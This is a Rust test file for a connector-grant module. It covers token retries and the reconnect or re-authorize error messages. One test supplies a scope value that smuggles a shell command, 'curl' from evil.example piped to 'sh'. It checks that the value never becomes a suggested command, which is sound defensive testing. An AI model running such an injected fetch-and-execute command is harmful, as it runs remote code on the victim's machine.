//! Activations whose connectors need a grant, and systems that do not always take it.

use linkspan_domain::ports::StoreError;
use linkspan_sdk::OpenHosts;
use linkspan_testkit::{Answer, Answers};

use super::*;
use crate::{
    fixtures::{activation, connector, keep, types, vault},
    grants::fake::{Bench, Say},
};

/// Sources of one activation with a grant, whose connector authorizes by `flow`, and a system that answers as it is told to.
struct Desk {
    bench: Bench,
    answers: Arc<Answers>,
    sources: Sources,
}

impl Desk {
    async fn new(
        flow: AuthorizationFlow,
        says: impl IntoIterator<Item = Say>,
        answers: impl IntoIterator<Item = Answer>,
    ) -> Self {
        let bench = Bench::new(says).await;
        let answers = Arc::new(Answers::sequence(answers));
        let settings = ActivationSettings::new(Arc::new(types()), vault());
        let environment = Environment::new(Arc::clone(&answers) as _, Arc::new(OpenHosts));
        let connectors = keep(vec![connector(|it| it.entry.authorization_flow = flow)]).store;
        let tokens = AccessTokens::new(bench.refresher());
        let sources = Sources::new(Arc::new(settings), environment).with_grants(tokens, connectors);
        Self { bench, answers, sources }
    }

    async fn try_token(&self) -> Result<(), Failure> {
        let url = "https://files.example/me".parse().unwrap();
        self.sources.check_grant(&activation(|_| {}), Some(url)).await
    }

    fn carried(&self) -> Vec<String> {
        let seen = self.answers.seen();
        let carried = seen.iter().map(|it| it.headers["authorization"].to_str().unwrap());
        carried.map(str::to_owned).collect()
    }
}

#[tokio::test]
async fn a_use_is_told_how_its_connector_authorizes() {
    for flow in [AuthorizationFlow::OauthManual, AuthorizationFlow::Wsse] {
        let desk = Desk::new(flow, [], []).await;
        let of = activation(|_| {});
        let lent = desk.sources.lend(&of).await.unwrap();
        assert_eq!((lent.flow, lent.activation), (flow, Some(of.id)));
        assert_eq!(lent.tokens.unwrap().bearer().await.unwrap().expose(), "access-0");
        let tried = desk.sources.lend_for_trial(&of).await.unwrap();
        assert_eq!((tried.flow, tried.activation), (flow, None));
    }
}

#[tokio::test]
async fn a_catalog_that_does_not_answer_is_tried_again() {
    let mut desk = Desk::new(AuthorizationFlow::Redirect, [], []).await;
    let mut connectors = linkspan_domain::ports::MockStore::new();
    connectors.expect_find().returning(|_, _| Err(StoreError::Unavailable("gone".into())));
    desk.sources.grants.as_mut().unwrap().connectors = Arc::new(connectors);
    let failure = desk.sources.lend(&activation(|_| {})).await.err().unwrap();
    assert!(failure.is_retryable(), "{failure:?}");
}

#[tokio::test]
async fn a_token_that_the_test_url_refuses_is_tried_again_as_another() {
    let answers = [Answer::of(401, ""), Answer::of(200, "")];
    let desk = Desk::new(AuthorizationFlow::Redirect, [Say::Tokens("1")], answers).await;
    desk.try_token().await.unwrap();
    assert_eq!(desk.carried(), ["Bearer access-0", "Bearer access-1"]);
}

#[tokio::test]
async fn what_is_not_taken_says_what_a_person_does() {
    let lacks = r#"Bearer error="insufficient_scope", scope="files:write files:read""#;
    for (answer, expected) in [
        (Answer::of(401, ""), "files.example does not accept the token of the grant; reconnect it"),
        (Answer::of(403, ""), "files.example does not accept the token of the grant; reconnect it"),
        (
            Answer::of(403, "").with_header("www-authenticate", lacks),
            "files.example asks for the scope `files:write files:read`, which the grant does not have; authorize it with that",
        ),
    ] {
        let desk = Desk::new(AuthorizationFlow::Redirect, [Say::Tokens("1")], [answer]).await;
        let failure = desk.try_token().await.unwrap_err();
        assert_eq!(failure.code(), "source.need_reconnect");
        let said = failure.to_string();
        assert!(said.starts_with(expected), "{said}");
        let call = format!("POST /v1/workspace-connectors/{}/authorize", desk.bench.of);
        assert!(said.contains(&call) && !said.contains("access-"), "{said}");
        if expected.contains("scope") {
            let body = r#"{"scopes":["files:write","files:read"]}"#;
            assert!(said.contains(body), "{said}");
            let command = format!(
                "linkspan authorize {} --scope files:write --scope files:read",
                desk.bench.of
            );
            assert!(said.contains(&command), "{said}");
        }
    }
}

/// Checklist 16: nobody is asked for ever.
#[tokio::test]
async fn a_scope_that_was_granted_is_not_asked_for_again() {
    let lacks = r#"Bearer error="insufficient_scope", scope="read""#;
    let answer = Answer::of(403, "").with_header("www-authenticate", lacks);
    let desk = Desk::new(AuthorizationFlow::Redirect, [Say::Tokens("1")], [answer]).await;
    let said = desk.try_token().await.unwrap_err().to_string();
    assert!(said.contains("`read`, which the grant has already"), "{said}");
    assert!(!said.contains("scopes"), "{said}");
}

#[tokio::test]
async fn a_scope_that_a_shell_would_run_stands_in_no_command() {
    let lacks = r#"Bearer error="insufficient_scope", scope="files;curl${IFS}evil.example|sh""#;
    let answer = Answer::of(403, "").with_header("www-authenticate", lacks);
    let desk = Desk::new(AuthorizationFlow::Redirect, [Say::Tokens("1")], [answer]).await;
    let said = desk.try_token().await.unwrap_err().to_string();
    assert!(said.contains(r#"{"scopes":["files;curl${IFS}evil.example|sh"]}"#), "{said}");
    assert!(!said.contains("linkspan authorize"), "{said}");
}

#[tokio::test]
async fn a_test_url_that_does_not_work_says_nothing_about_the_grant() {
    for answer in [Answer::of(500, ""), Answer::of(429, ""), Answer::Unreachable] {
        let desk = Desk::new(AuthorizationFlow::Redirect, [], [answer]).await;
        let failure = desk.try_token().await.unwrap_err();
        assert_eq!(failure.code(), "source.unavailable");
    }
    let desk = Desk::new(AuthorizationFlow::Redirect, [], [Answer::of(404, "")]).await;
    desk.try_token().await.unwrap();
}
